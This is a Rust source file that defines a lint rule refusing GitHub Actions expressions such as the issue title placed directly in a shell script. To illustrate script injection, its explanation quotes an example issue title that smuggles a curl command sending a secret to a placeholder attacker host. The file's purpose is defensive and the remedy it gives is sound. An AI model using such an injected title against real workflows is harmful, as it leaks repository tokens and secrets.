//! Text that a stranger writes, in the middle of a script.

use crate::lint::examples::written_in_rust;
use crate::lint::rule::{Finds, Rule, Severity, Subjects};

/// Text that a stranger writes, in the middle of a script.
pub static RULE: Rule = Rule {
    code: "T310",
    name: "untrusted-text-in-script",
    about: Subjects::Trust,
    severity: Severity::Error,
    summary: "an expression stands in the text of a script, and its value is read as commands",
    why: "GitHub puts the value of an expression into the script before the shell sees it. The title of an issue, the \
        name of a branch, the text of a comment: whoever writes it writes a part of the script, which runs with the \
        job's token and its secrets. A variable is a value to the shell, whatever it holds.",
    happens: "Somebody opens an issue with the title `\"; curl evil.example/$SECRET; \"`. The job that greets new issues \
        runs it.",
    mend: "Hand the value over as a variable of the step and quote it where it is read: `.env(\"TITLE\", \
        github::conversation::issue_title())`, and `\"$TITLE\"` in the script. Every expression in a script is refused, \
        harmless ones too, and so is one in the `script` of an action: nobody has to tell the two kinds apart.",
    source: "https://docs.github.com/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
    example: written_in_rust!(untrusted_text_in_script),
    gotcha: None,
    finds: Finds::Refused(concat!("has `$", "{{ github.event.issue.title }}` in its script")),
};
